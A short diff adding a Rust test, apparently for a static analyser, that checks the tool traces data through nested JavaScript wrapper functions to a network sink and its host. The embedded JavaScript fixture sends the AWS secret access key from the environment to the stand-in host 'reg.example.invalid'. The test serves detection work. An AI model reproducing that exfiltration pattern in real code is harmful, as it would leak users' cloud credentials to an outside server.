@@ -307,3 +307,15 @@ fn file_contents_reads_are_told_apart_from_listings() {
         assert!(!reads_file_contents(code), "{code}");
     }
 }
+
+#[test]
+fn a_wrapper_of_a_wrapper_is_a_sink_with_the_destination_its_body_names() {
+    let js = "const https = require('https');\nfunction send(url, body, headers) { const u = new URL(url); https.request({ hostname: u.hostname, headers }).end(JSON.stringify(body)); }\nasync function register(acct) { await send(`https://${HOST}/v1/r`, {}, { 'x-k': acct.key }); }\nconst HOST = 'reg.example.invalid';\nregister({ key: process.env.AWS_SECRET_ACCESS_KEY });\n";
+    let f = facts(Lang::Javascript, js);
+    assert!(
+        f.sink_functions.iter().any(|s| s.name == "register" && s.host.as_deref() == Some("reg.example.invalid")),
+        "{f:?}"
+    );
+    let flow = f.flows.iter().find(|fl| fl.callee == "register").expect("a flow through the outer wrapper");
+    assert_eq!(flow.host.as_deref(), Some("reg.example.invalid"));
+}
